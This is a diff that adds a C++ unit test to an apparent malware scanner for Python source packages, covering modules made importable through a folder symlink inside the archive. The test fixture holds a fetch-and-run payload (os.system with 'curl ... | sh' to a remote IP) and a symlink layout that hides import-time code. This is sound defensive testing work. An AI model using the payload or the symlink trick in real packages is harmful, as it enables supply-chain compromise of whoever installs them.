@@ -174,6 +174,34 @@ TEST_F(ScannerTest, PythonModuleRunBySetupIsInstallTimeCode) {
       << "the same base name in another folder is another file";
 }
 
+// An sdist's folder link (p-1.0/mypkg -> lib/mypkg) makes the modules of
+// the folder it names importable under the link's name: the ones the
+// package's __init__.py imports are import-time code there.
+TEST_F(ScannerTest, ModuleImportedThroughAFolderLinkIsImportTimeCode) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  std::string tgz = testing::MakeTar(
+      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/lib/mypkg/__init__.py", "from .core import run\n"),
+       File("p-1.0/lib/mypkg/core.py", payload),
+       File("p-1.0/lib/mypkg/unused.py", payload),
+       testing::Entry{"p-1.0/mypkg", "", testing::Entry::kSymlink, "lib/mypkg"}});
+  Scanner full(&testing::Rules(), {});
+  ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
+  auto has = [&](const std::string& rule, const std::string& file, Phase phase) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.rule == rule && f.file == file && f.phase == phase;
+    });
+  };
+  EXPECT_TRUE(has("download-exec", "p-1.0/mypkg/core.py", Phase::kImport));
+  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/core.py", Phase::kImport));
+  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/__init__.py", Phase::kImport));
+  for (const Finding& f : r.findings)
+    EXPECT_NE(f.file, "p-1.0/mypkg/unused.py") << "nothing imports it: read by its own name only";
+  EXPECT_TRUE(std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
+    return f.file == "p-1.0/lib/mypkg/unused.py" && f.phase == Phase::kRuntime;
+  }));
+}
+
 // A script the package installs on PATH (a wheel's .data/scripts/) that
 // import-time code starts by name is import-time Python; a file elsewhere
 // started by name is not read as Python.
